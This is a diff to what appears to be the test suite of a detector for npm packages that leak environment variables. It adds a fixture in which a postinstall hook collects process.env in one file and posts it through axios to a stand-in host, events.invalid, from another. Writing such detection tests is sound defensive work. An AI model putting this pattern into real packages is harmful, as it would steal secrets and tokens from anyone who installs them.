@@ -6,6 +6,15 @@ const hook = { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node
 examine(sendsEnvironment, {
   speaks: [
     {
+      when: 'a hook gathers it in another file and sends it to a host that is not known',
+      files: {
+        'package.json': { name: 'specimen', scripts: { postinstall: 'node run.js' } },
+        'run.js': `const { send } = require('./client'); send({ env: process.env })`,
+        'client.js': `exports.send = props => require('axios').create({ baseURL: 'https://events.invalid' }).post('/capture', props)`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'it is gathered in another file, and the host is called like the package',
       id: { name: 'acme-colours' },
       files: {
